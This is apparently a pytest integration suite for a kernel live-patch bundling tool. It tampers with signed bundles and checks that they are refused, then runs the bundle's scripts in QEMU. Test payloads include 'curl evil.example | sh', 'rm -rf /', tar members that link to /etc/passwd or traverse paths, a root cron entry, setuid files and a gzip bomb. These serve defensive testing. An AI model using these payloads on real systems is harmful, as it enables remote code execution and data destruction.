"""A bundle an SRE can trust (issue 13): tampering a real bundle, and its scripts in QEMU.

The bundle is what a user makes: ``patchflow livepatch build`` of
tests/data/livepatch/patches/cmdline.patch on the 6.12 base kernel, then
``patchflow livepatch bundle`` signed with a test key (the module through
the kernel's scripts/sign-file, the manifest with CMS).  Each attack edits
that bundle the way an attacker would and runs ``patchflow livepatch check``
on it; the scripts run in the guest under busybox, including a transition
that stalls (a live patch of ``do_wait`` while a shell waits on a child) and
must be reversed.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import tarfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from patchflow.cli import cli
from patchflow.kernel.artefacts import locate, target_lock
from patchflow.livepatch.bundle import (
    MANIFEST,
    SIGNATURE,
    Signer,
    build_bundle,
    read_archive,
    split_signature,
    vmlinux_build_id,
)
from patchflow.result import Status

from ..attacklib import (
    gnu_tar_extract,
    make_key,
    one_line_error,
    pack,
    patchflow,
    remanifest,
    tar_with,
    unpack,
)
from ..conftest import REAL_CACHE
from .conftest import TARGET_612, BuiltKernel

pytestmark = [pytest.mark.integration, pytest.mark.slow]
DATA = Path(__file__).parent.parent / "data" / "livepatch"

@dataclass(frozen=True)
class Real:
    """A real signed bundle, the kernel it is for, and the keys around it."""

    bundle: Path
    release: str
    build_id: str
    bzimage: Path  # a copy: the shared cache's base may be rebuilt meanwhile
    good: Signer  # the SRE team's signing key: its certificate is the trust root
    evil: Signer  # an attacker's self-signed key
    work: Path
    env: dict[str, str]

    def check(self, bundle: Path, *extra: str) -> Any:
        return CliRunner().invoke(cli, ["livepatch", "check", str(bundle), "--trust",
                                        str(self.good.cert), "--kernel-release", self.release,
                                        "--build-id", self.build_id, *extra])


def _env(work: Path) -> dict[str, str]:
    home = work / "home"
    home.mkdir(exist_ok=True)
    return {"HOME": str(home), "XDG_CACHE_HOME": str(home / ".cache"),
            "PATCHFLOW_CACHE": str(REAL_CACHE), "PATCHFLOW_WORKSPACE": str(work / "ws"),
            "GIT_CONFIG_NOSYSTEM": "1"}


def _bundle_of(patch: Path, series: str, work: Path, env: dict[str, str], good: Signer,
               *extra: str) -> tuple[Path, str, Path]:
    """`livepatch build` + `livepatch bundle` through the CLI; (bundle, build-id, bzImage copy).

    The base kernel in the shared cache may be rebuilt by another job between
    the module build and the boot, so the bzImage is copied under the target's
    lock once its vmlinux is known to be the one the module was built against.
    """
    for _attempt in range(3):
        out = work / f"build-{series}"
        shutil.rmtree(out, ignore_errors=True)
        built = patchflow("livepatch", "build", series, "--target", TARGET_612, "--patch",
                          str(patch), "--out", str(out), env=env, timeout=1800)
        assert built.returncode == 0, built.stdout + built.stderr
        bundle = work / f"{series}.tar.gz"
        made = patchflow("livepatch", "bundle", str(out / "build.json"), "-o", str(bundle),
                         "--sign-key", str(good.key), "--sign-cert", str(good.cert), *extra,
                         env=env)
        assert made.returncode == 0, made.stderr
        bid = json.loads(read_archive(bundle).members[MANIFEST][0])["info"]["build_id"]
        with target_lock(REAL_CACHE, TARGET_612):
            art = locate(REAL_CACHE, TARGET_612, "base")
            if vmlinux_build_id(art.vmlinux) == bid:
                bz = work / f"{series}.bzImage"
                shutil.copy2(art.bzimage, bz)
                return bundle, bid, bz
    raise AssertionError("the base kernel kept changing under the test")


@pytest.fixture(scope="module")
def real(base_612: BuiltKernel, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Real]:
    work = tmp_path_factory.mktemp("trust")
    env = _env(work)
    good, evil = make_key(work, "sre-signing"), make_key(work, "attacker")
    bundle, bid, bz = _bundle_of(DATA / "patches" / "cmdline.patch", "cmdline", work, env, good)
    yield Real(bundle, base_612.tree.release(), bid, bz, good, evil, work, env)


def _refused(res: Any, *why: str) -> None:
    assert res.exit_code == 1, res.output
    assert "livepatch-check: FAIL: refused" in res.output, res.output
    for w in why:
        assert w in res.output, (w, res.output)


# --------------------------------------------------------------------------
# the real bundle as made


def test_the_real_bundle_is_signed_and_passes(real: Real, tmp_path: Path) -> None:
    top, members = unpack(real.bundle)
    assert top == "lp_cmdline" and SIGNATURE in members
    manifest = json.loads(members[MANIFEST][0])
    assert manifest["module_signed"] is True  # scripts/sign-file appended its signature
    assert manifest["info"]["build_id"] == real.build_id
    res = real.check(real.bundle, "--extract", str(tmp_path / "x"))
    assert res.exit_code == 0, res.output
    assert "signed by CN=sre-signing, which chains to the trust root" in res.output
    assert "module signature: made by a trust-root key" in res.output
    assert sorted(p.name for p in (tmp_path / "x" / top).iterdir()) == sorted(members)


# --------------------------------------------------------------------------
# bundle trust: the signature covers everything, against a root the user names


def test_edited_install_sh_with_regenerated_manifest_unsigned(real: Real, tmp_path: Path) -> None:
    """Issue repro: edit install.sh, regenerate the checksums, and check said PASS."""
    top, m = unpack(real.bundle)
    m["install.sh"] = (m["install.sh"][0] + b"\ncurl evil.example | sh\n", 0o755)
    bad = pack(tmp_path / "bad.tar.gz", top, remanifest(m, signer=None))
    _refused(real.check(bad), "manifest.json.sig is missing")


def test_edited_install_sh_resigned_by_another_key(real: Real, tmp_path: Path) -> None:
    top, m = unpack(real.bundle)
    m["install.sh"] = (m["install.sh"][0] + b"\ncurl evil.example | sh\n", 0o755)
    bad = pack(tmp_path / "bad.tar.gz", top, remanifest(m, signer=real.evil))
    _refused(real.check(bad), "does not verify against the trust root")


def test_edited_member_under_the_old_signature(real: Real, tmp_path: Path) -> None:
    top, m = unpack(real.bundle)
    m["rollback.sh"] = (b"#!/bin/sh\nrm -rf /\n", 0o755)
    bad = pack(tmp_path / "bad.tar.gz", top, m)
    _refused(real.check(bad), "rollback.sh does not match its manifest.json sha256")


def test_module_swapped_for_an_unsigned_one(real: Real, tmp_path: Path) -> None:
    """Issue repro: a module swapped for an unsigned one passed without --cert."""
    top, m = unpack(real.bundle)
    ko, mode = m["lp_cmdline.ko"]
    m["lp_cmdline.ko"] = (split_signature(ko)[0], mode)
    bad = pack(tmp_path / "bad.tar.gz", top, remanifest(m, signer=None,
                                                        edit=lambda d: d.update(module_signed=False)))
    no_root = CliRunner().invoke(cli, ["livepatch", "check", str(bad), "--kernel-release",
                                       real.release, "--build-id", real.build_id])
    assert no_root.exit_code == 2 and "no trust root" in no_root.output
    _refused(real.check(bad), "manifest.json.sig is missing")


def test_manifest_relabelled_for_another_kernel(real: Real, tmp_path: Path) -> None:
    """Issue repro: relabelling the manifest for another release and build-id passed."""
    top, m = unpack(real.bundle)
    doc = json.loads(m[MANIFEST][0])
    doc["info"].update(kernel_release="6.12.118", build_id="ab" * 20)
    m[MANIFEST] = ((json.dumps(doc, indent=2, sort_keys=True) + "\n").encode(), 0o644)
    bad = pack(tmp_path / "bad.tar.gz", top, m)
    res = CliRunner().invoke(cli, ["livepatch", "check", str(bad), "--trust", str(real.good.cert),
                                   "--kernel-release", "6.12.118", "--build-id", "ab" * 20])
    _refused(res, "does not verify against the trust root")


def test_no_trust_root_is_refused_and_insecure_says_what_it_skipped(real: Real) -> None:
    proc = patchflow("livepatch", "check", str(real.bundle), "--kernel-release", real.release,
                     "--build-id", real.build_id, env=real.env)
    assert proc.returncode == 2
    one_line_error(proc.stderr, "no trust root", "--trust CERT|DIR", "[bundle] trust")
    loose = patchflow("livepatch", "check", str(real.bundle), "--insecure", "--kernel-release",
                      real.release, "--build-id", real.build_id, env=real.env)
    assert loose.returncode == 0, loose.stderr
    assert "NOT VERIFIED: the signature over manifest.json" in loose.stderr
    assert "WARNING: --insecure" in loose.stderr
    assert "WARN" in loose.stdout


def test_trust_root_from_the_workspace_config(real: Real, tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "config.toml").write_text(f'[bundle]\ntrust = "{real.good.cert}"\n')
    proc = patchflow("-w", str(ws), "livepatch", "check", str(real.bundle), "--kernel-release",
                     real.release, "--build-id", real.build_id, env=real.env)
    assert proc.returncode == 0, proc.stderr
    assert f"chains to the trust root {real.good.cert}" in proc.stdout
    (ws / "config.toml").write_text(f'[bundle]\ntrust = "{real.evil.cert}"\n')
    other = patchflow("-w", str(ws), "livepatch", "check", str(real.bundle), "--kernel-release",
                      real.release, "--build-id", real.build_id, env=real.env)
    assert other.returncode == 1 and "does not verify against the trust root" in other.stdout


def test_the_system_ca_store_does_not_vouch(real: Real, tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """A bundle signed under a CA the host's OpenSSL trusts by default is still refused."""
    ca = make_key(tmp_path, "system-ca")
    leaf = make_key(tmp_path, "leaf", ca=ca)
    store = tmp_path / "certs"
    store.mkdir()
    shutil.copy(ca.cert, store / "ca.pem")
    from patchflow.runner import run

    run(["openssl", "rehash", str(store)])
    monkeypatch.setenv("SSL_CERT_DIR", str(store))
    monkeypatch.setenv("SSL_CERT_FILE", str(ca.cert))
    top, m = unpack(real.bundle)
    m["install.sh"] = (m["install.sh"][0] + b"\nid\n", 0o755)
    bad = pack(tmp_path / "bad.tar.gz", top, remanifest(m, signer=leaf))
    _refused(real.check(bad), "does not verify against the trust root")


# --------------------------------------------------------------------------
# the archive: what check reads is what gets extracted


def _ti(name: str, kind: bytes, **kw: Any) -> tarfile.TarInfo:
    ti = tarfile.TarInfo(name)
    ti.type = kind
    for k, v in kw.items():
        setattr(ti, k, v)
    return ti


Hostile = list[tarfile.TarInfo | tuple[tarfile.TarInfo, bytes]]
#: case -> (members appended after the real ones, the reason check must give)
HOSTILE_MEMBERS: dict[str, tuple[Callable[[str], Hostile], str]] = {
    # a symlink install.sh after the real one: tar replaces the file by the link
    "symlink-install-sh": (lambda top: [_ti(f"{top}/install.sh", tarfile.SYMTYPE,
                                            linkname="/tmp/evil.sh")], "is a symbolic link"),
    "absolute-symlink": (lambda top: [_ti(f"{top}/etc", tarfile.SYMTYPE, linkname="/etc")],
                         "is a symbolic link"),
    "hardlink": (lambda top: [_ti(f"{top}/passwd", tarfile.LNKTYPE, linkname="/etc/passwd")],
                 "is a hard link"),
    "char-device": (lambda top: [_ti(f"{top}/mem", tarfile.CHRTYPE, devmajor=1, devminor=1)],
                    "is a character device"),
    "block-device": (lambda top: [_ti(f"{top}/sda", tarfile.BLKTYPE, devmajor=8, devminor=0)],
                     "is a block device"),
    "fifo": (lambda top: [_ti(f"{top}/fifo", tarfile.FIFOTYPE)], "is a FIFO"),
    "directory": (lambda top: [_ti(f"{top}/sub", tarfile.DIRTYPE, mode=0o755)],
                  "is a directory"),
    "absolute-path": (lambda top: [(_ti("/etc/cron.d/evil", tarfile.REGTYPE, mode=0o644),
                                    b"* * * * * root id\n")], "leaves the bundle's folder"),
    "dotdot-path": (lambda top: [(_ti(f"{top}/../../evil.sh", tarfile.REGTYPE, mode=0o755),
                                  b"id\n")], "leaves the bundle's folder"),
    "nested-path": (lambda top: [(_ti(f"{top}/a/install.sh", tarfile.REGTYPE, mode=0o755),
                                  b"id\n")], "is not TOP/NAME"),
    "duplicate-install-sh": (lambda top: [(_ti(f"{top}/install.sh", tarfile.REGTYPE,
                                               mode=0o755), b"#!/bin/sh\nid\n")],
                             "appears twice"),
    "second-top-folder": (lambda top: [(_ti("other/install.sh", tarfile.REGTYPE, mode=0o755),
                                        b"#!/bin/sh\nid\n")], "more than one top folder"),
    "setuid-member": (lambda top: [(_ti(f"{top}/helper", tarfile.REGTYPE, mode=0o4755),
                                    b"x")], "setuid"),
    "pax-header": (lambda top: [(_ti(f"{top}/p", tarfile.REGTYPE, mode=0o644,
                                     pax_headers={"path": f"{top}/install.sh"}), b"id\n")],
                   "is a pax header"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_MEMBERS))
def test_archive_hostile_member(real: Real, tmp_path: Path, case: str) -> None:
    top, _m = unpack(real.bundle)
    members, why = HOSTILE_MEMBERS[case]
    fmt = tarfile.PAX_FORMAT if case == "pax-header" else tarfile.USTAR_FORMAT
    bad = tar_with(tmp_path / "bad.tar.gz", real.bundle, members(top), fmt=fmt)
    res = real.check(bad, "--extract", str(tmp_path / "x"))
    _refused(res, why)
    assert not (tmp_path / "x").exists()  # nothing extracted from a refused bundle


def test_archive_gnu_format_is_refused(real: Real, tmp_path: Path) -> None:
    """GNU headers (long names, sparse files, base-256 sizes) are not what patchflow writes."""
    bad = tar_with(tmp_path / "bad.tar.gz", real.bundle, [], fmt=tarfile.GNU_FORMAT)
    _refused(real.check(bad), "not a POSIX ustar header")


def _corrupt_header_bundle(real: Real, out: Path) -> Path:
    """The real bundle's tar, a garbage header block, then a second install.sh."""
    import gzip

    top, m = unpack(real.bundle)
    raw = gzip.decompress(real.bundle.read_bytes())
    end = len(raw)
    while raw[end - 512:end] == b"\0" * 512:
        end -= 512
    evil = io.BytesIO()
    with tarfile.open(fileobj=evil, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        ti = tarfile.TarInfo(f"{top}/install.sh")
        payload = b"#!/bin/sh\necho owned > /tmp/owned\n"
        ti.size, ti.mode = len(payload), 0o755
        tar.addfile(ti, io.BytesIO(payload))
    garbage = b"\xff" * 512
    out.write_bytes(gzip.compress(raw[:end] + garbage + evil.getvalue()))
    return out


def test_archive_gnu_tar_reads_past_a_corrupt_header(real: Real, tmp_path: Path) -> None:
    """Issue repro: tarfile stopped at the corrupt header, GNU tar skipped it and extracted
    a second install.sh that nobody checked.  Both halves of that are shown, then refused."""
    bad = _corrupt_header_bundle(real, tmp_path / "bad.tar.gz")
    with tarfile.open(bad) as tar:  # what the old check read: the first members only
        assert [n for n in tar.getnames() if n.endswith("install.sh")] == ["lp_cmdline/install.sh"]
    gnu = gnu_tar_extract(bad, tmp_path / "gnu")
    assert "Skipping to next header" in gnu.stderr
    assert b"owned" in (tmp_path / "gnu" / "lp_cmdline" / "install.sh").read_bytes()
    _refused(real.check(bad), "header at offset", "checksum")


def test_archive_second_gzip_stream(real: Real, tmp_path: Path) -> None:
    """gzip -d (and so tar xzf) decompresses concatenated streams as one."""
    import gzip

    top, _m = unpack(real.bundle)
    extra = io.BytesIO()
    with tarfile.open(fileobj=extra, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        ti = tarfile.TarInfo(f"{top}/payload.sh")
        ti.size, ti.mode = 3, 0o755
        tar.addfile(ti, io.BytesIO(b"id\n"))
    bad = tmp_path / "bad.tar.gz"
    bad.write_bytes(real.bundle.read_bytes() + gzip.compress(extra.getvalue()))
    _refused(real.check(bad), "after the gzip stream")


def test_archive_data_after_the_end_blocks(real: Real, tmp_path: Path) -> None:
    import gzip

    raw = gzip.decompress(real.bundle.read_bytes()) + b"#!/bin/sh\nid\n" + b"\0" * 499
    bad = tmp_path / "bad.tar.gz"
    bad.write_bytes(gzip.compress(raw))
    _refused(real.check(bad), "data after the end of the archive")


def test_archive_size_limits(real: Real, tmp_path: Path) -> None:
    """A gzip bomb (zeros inflate 1000:1) and a member larger than any module."""
    import gzip

    bomb = tmp_path / "bomb.tar.gz"
    bomb.write_bytes(gzip.compress(b"\0" * (80 * 2**20)))
    _refused(real.check(bomb), "inflates to more than")
    top, m = unpack(real.bundle)
    m["lp_cmdline.ko"] = (m["lp_cmdline.ko"][0] + b"\0" * (33 * 2**20), 0o644)
    big = pack(tmp_path / "big.tar.gz", top, remanifest(m, signer=real.good))
    _refused(real.check(big), "more than 33554432")


def test_archive_member_not_in_the_manifest(real: Real, tmp_path: Path) -> None:
    top, m = unpack(real.bundle)
    m["payload.sh"] = (b"#!/bin/sh\nrm -rf /\n", 0o755)
    bad = pack(tmp_path / "bad.tar.gz", top, m)
    _refused(real.check(bad), "payload.sh is not listed in manifest.json")


def test_archive_mode_differs_from_the_manifest(real: Real, tmp_path: Path) -> None:
    top, m = unpack(real.bundle)
    m["README.md"] = (m["README.md"][0], 0o755)
    bad = pack(tmp_path / "bad.tar.gz", top, m)
    _refused(real.check(bad), "README.md has mode 0755, manifest.json says 0644")


def test_extract_never_follows_a_planted_link(real: Real, tmp_path: Path) -> None:
    dest = tmp_path / "x"
    dest.mkdir()
    victim = tmp_path / "victim"
    victim.mkdir()
    (dest / "lp_cmdline").symlink_to(victim)
    res = real.check(real.bundle, "--extract", str(dest))
    assert res.exit_code == 2 and "already exists" in res.output
    assert list(victim.iterdir()) == []


# --------------------------------------------------------------------------
# identity: from the module and from the host, never from the manifest alone


def _resigned_module(real: Real, tmp_path: Path, old: bytes, new: bytes,
                     edit: Callable[[dict[str, Any]], Any] | None = None) -> Path:
    """The module's .modinfo edited (same length), the manifest updated and signed by the
    *trusted* key: what a signer's mistake or a compromised build would give."""
    top, m = unpack(real.bundle)
    ko, mode = m["lp_cmdline.ko"]
    assert old in ko
    m["lp_cmdline.ko"] = (ko.replace(old, new), mode)
    return pack(tmp_path / "bad.tar.gz", top, remanifest(m, signer=real.good, edit=edit))


def test_module_vermagic_for_another_kernel(real: Real, tmp_path: Path) -> None:
    rel = real.release.encode()
    other = rel[:-1] + (b"9" if rel[-1:] != b"9" else b"8")
    bad = _resigned_module(real, tmp_path, b"vermagic=" + rel, b"vermagic=" + other)
    _refused(real.check(bad), "the module's vermagic", f"this kernel is {real.release}")


def test_module_name_differs_from_the_manifest(real: Real, tmp_path: Path) -> None:
    bad = _resigned_module(real, tmp_path, b"name=lp_cmdline", b"name=lp_cmdlinf")
    _refused(real.check(bad), "the module's .modinfo names 'lp_cmdlinf'")


def test_signed_manifest_without_a_build_id(real: Real, tmp_path: Path) -> None:
    """Issue repro: the build-id check was skipped when the manifest had none."""
    top, m = unpack(real.bundle)
    bad = pack(tmp_path / "bad.tar.gz", top, remanifest(
        m, signer=real.good, edit=lambda d: d["info"].update(build_id="")))
    _refused(real.check(bad), "build-id ''")


def test_kernel_release_alone_does_not_skip_the_build_id(real: Real) -> None:
    """Issue repro: with only --kernel-release the build-id was never compared."""
    proc = patchflow("livepatch", "check", str(real.bundle), "--trust", str(real.good.cert),
                     "--kernel-release", real.release, env=real.env)
    assert proc.returncode == 2
    one_line_error(proc.stderr, "--kernel-release and --build-id go together")


@pytest.mark.parametrize("what", ["release", "build-id"])
def test_another_kernel_is_refused(real: Real, what: str) -> None:
    rel = "6.1.192" if what == "release" else real.release
    bid = "cd" * 20 if what == "build-id" else real.build_id
    res = CliRunner().invoke(cli, ["livepatch", "check", str(real.bundle), "--trust",
                                   str(real.good.cert), "--kernel-release", rel, "--build-id", bid])
    _refused(res, f"built for kernel {real.release}, this kernel is 6.1.192" if what == "release"
             else f"built for vmlinux build-id {real.build_id}, this kernel's is {'cd' * 20}")


def test_this_hosts_kernel_by_default(real: Real) -> None:
    """Without --kernel-release/--build-id, uname -r and /sys/kernel/notes: not this bundle's."""
    res = CliRunner().invoke(cli, ["livepatch", "check", str(real.bundle), "--trust",
                                   str(real.good.cert)])
    _refused(res, f"this kernel is {os.uname().release}")


@pytest.mark.parametrize("doc", ["[]", '"manifest"', "{}", '{"schema": 2}'])
def test_signed_manifest_that_is_not_a_manifest(real: Real, tmp_path: Path, doc: str) -> None:
    """A non-dict or ill-typed manifest, even signed, is refused in one line, no traceback."""
    from patchflow.livepatch.bundle import sign_manifest

    top, m = unpack(real.bundle)
    raw = doc.encode()
    m[MANIFEST] = (raw, 0o644)
    m[SIGNATURE] = (sign_manifest(raw, real.good), 0o644)
    res = real.check(pack(tmp_path / "bad.tar.gz", top, m))
    _refused(res, "manifest.json")
    assert res.exception is None or isinstance(res.exception, SystemExit)


# --------------------------------------------------------------------------
# the scripts in a guest


def _extracted(real: Real, bundle: Path, dest: Path, *check_args: str) -> Path:
    res = CliRunner().invoke(cli, ["livepatch", "check", str(bundle), "--trust",
                                   str(real.good.cert), "--extract", str(dest), *check_args])
    assert res.exit_code == 0, res.output
    (top,) = list(dest.iterdir())
    return top


def _boot(real: Real, bzimage: Path, folder: Path, snippet: str, log: Path,
          timeout: float = 600) -> dict[str, str]:
    from patchflow.boot import qemu

    files = tuple((p, f"/bundle/{p.name}") for p in sorted(folder.iterdir()))
    snip = "chmod 755 /bundle/install.sh /bundle/rollback.sh\n" + snippet
    initrd = qemu.initramfs(REAL_CACHE, qemu.GuestSpec(snippets=(("bundle", snip),), files=files))
    run_ = qemu.boot(bzimage, initrd, log=log, timeout=timeout)
    assert run_.result.status is Status.PASS, run_.result.summary
    return {k: v.decode(errors="replace").strip() for k, v in run_.files.items()}


def test_bundle_install_and_rollback_scripts_in_guest(real: Real, tmp_path: Path) -> None:
    """The SRE path: check --extract, then the bundle's own scripts, run by busybox."""
    folder = _extracted(real, real.bundle, tmp_path / "x", "--kernel-release", real.release,
                        "--build-id", real.build_id)
    got = _boot(real, real.bzimage, folder, (
        "pf_run install /bundle/install.sh\n"
        "pf_run effect cat /proc/cmdline\npf_run rollback /bundle/rollback.sh\n"
        "pf_run effect-after cat /proc/cmdline\npf_file modules /proc/modules\n"
        "pf_run again /bundle/rollback.sh\n"), tmp_path / "console.log")
    assert got["install.rc"] == "0", got["install"]
    assert "live patch lp_cmdline enabled: cmdline_proc_show" in got["install"]
    assert "livepatch=cmdline" in got["effect"]
    assert got["rollback.rc"] == "0", got["rollback"]
    assert "livepatch=cmdline" not in got["effect-after"]
    assert "lp_cmdline" not in got.get("modules", "")
    assert got["again.rc"] == "0"  # rolling back what is not loaded is fine


def _ko_offset_patch(folder: Path, old: bytes, new: bytes) -> None:
    ko = folder / "lp_cmdline.ko"
    ko.write_bytes(ko.read_bytes().replace(old, new))


def test_install_sh_refuses_in_the_guest(real: Real, tmp_path: Path) -> None:
    """install.sh checks on its own: a module changed after extraction, another build-id
    (a bundle made for another build of the same release), another kernel release."""
    ok = _extracted(real, real.bundle, tmp_path / "ok", "--kernel-release", real.release,
                    "--build-id", real.build_id)
    tampered = tmp_path / "tampered"
    shutil.copytree(ok, tampered)
    _ko_offset_patch(tampered, b"livepatch=cmdline", b"livepatch=CMDLINE")
    # a module and scripts made for another vmlinux build-id, signed by the trusted key
    top, m = unpack(real.bundle)
    ko = tmp_path / "lp_cmdline.ko"
    ko.write_bytes(m["lp_cmdline.ko"][0])
    info = json.loads(m[MANIFEST][0])["info"]
    other_bid = build_bundle(ko, {**info, "build_id": "ee" * 20}, tmp_path / "bid.tar.gz",
                             signer=real.good)
    wrong_bid = _extracted(real, other_bid, tmp_path / "bid", "--kernel-release", real.release,
                           "--build-id", "ee" * 20)
    rel = real.release.encode()
    other_rel = rel[:-1] + (b"9" if rel[-1:] != b"9" else b"8")
    ko.write_bytes(m["lp_cmdline.ko"][0].replace(b"vermagic=" + rel, b"vermagic=" + other_rel))
    other_release = build_bundle(ko, {**info, "kernel_release": other_rel.decode()},
                                 tmp_path / "rel.tar.gz", signer=real.good)
    wrong_rel = _extracted(real, other_release, tmp_path / "rel", "--kernel-release",
                           other_rel.decode(), "--build-id", real.build_id)
    folder = tmp_path / "all"
    folder.mkdir()
    for tag, src in (("t", tampered), ("b", wrong_bid), ("r", wrong_rel)):
        for p in src.iterdir():
            shutil.copy2(p, folder / f"{tag}-{p.name}")
    snip = ""
    for tag in ("t", "b", "r"):
        snip += (f"mkdir /{tag}; for f in /bundle/{tag}-*; do cp $f /{tag}/${{f#/bundle/{tag}-}};"
                 f" done; chmod 755 /{tag}/*.sh\npf_run {tag}-install /{tag}/install.sh\n")
    snip += "pf_file modules /proc/modules\n"
    got = _boot(real, real.bzimage, folder, snip, tmp_path / "console.log")
    assert got["t-install.rc"] == "1" and "does not match the manifest's sha256" in got["t-install"]
    assert got["b-install.rc"] == "1"
    assert f"built for vmlinux build-id {'ee' * 20}, this kernel's is {real.build_id}" \
        in got["b-install"]
    assert got["r-install.rc"] == "1"
    assert f"built for {other_rel.decode()}, this kernel is {real.release}" in got["r-install"]
    assert "lp_cmdline" not in got.get("modules", "")


def test_stalled_transitions_are_reversed_in_the_guest(real: Real, tmp_path: Path) -> None:
    """install.sh reverses a transition a sleeping task holds back and names that task;
    rollback.sh, stalled the same way, puts the patch back to fully applied."""
    # a patch to the function a waiting shell sleeps in: its transition cannot finish while
    # the shell waits (kernel/livepatch/transition.c checks each sleeping task's stack)
    bundle, bid, bz = _bundle_of(DATA / "patches" / "do_wait.patch", "dowait", real.work, real.env, real.good,
                                 "--transition-timeout", "4")
    folder = _extracted(real, bundle, tmp_path / "x", "--kernel-release", real.release,
                        "--build-id", bid)
    snip = """\
# a shell waiting for its subshell sleeps in do_wait (the old code) the whole time
sh -c '(sleep 600); :' &
old=$!
sleep 1
pf_value old "$old"
pf_run stalled /bundle/install.sh
pf_file modules-after-stall /proc/modules
kill $old
# the kernel's fake signals (every 15s) move the waiting init along: a longer timeout passes
pf_run install /bundle/install.sh --timeout 60
sh -c '(sleep 600); :' &
new=$!
sleep 1
pf_value new "$new"
pf_run rollback-stalled /bundle/rollback.sh
cat /sys/kernel/livepatch/lp_dowait/enabled /sys/kernel/livepatch/lp_dowait/transition \
    > /tmp/state 2>&1
pf_file state /tmp/state
kill $new
pf_run rollback /bundle/rollback.sh --timeout 60
pf_file modules /proc/modules
"""
    got = _boot(real, bz, folder, snip, tmp_path / "console.log", timeout=900)
    assert got["stalled.rc"] == "1", got["stalled"]
    assert "transition stalled after 4s" in got["stalled"]
    assert f"pid {got['old']} (sh): do_wait" in got["stalled"]
    assert "reversing the transition: 0 > /sys/kernel/livepatch/lp_dowait/enabled" \
        in got["stalled"]
    assert "NOT applied" in got["stalled"] and "module unloaded" in got["stalled"]
    assert "lp_dowait" not in got["modules-after-stall"]
    assert got["install.rc"] == "0", got["install"]
    assert got["rollback-stalled.rc"] == "1", got["rollback-stalled"]
    assert f"pid {got['new']} (sh): __klp_new__do_wait" in got["rollback-stalled"]
    assert "stays fully applied" in got["rollback-stalled"]
    assert got["state"].split() == ["1", "0"]  # enabled, no transition: not half
    assert got["rollback.rc"] == "0", got["rollback"]
    assert "lp_dowait" not in got.get("modules", "")
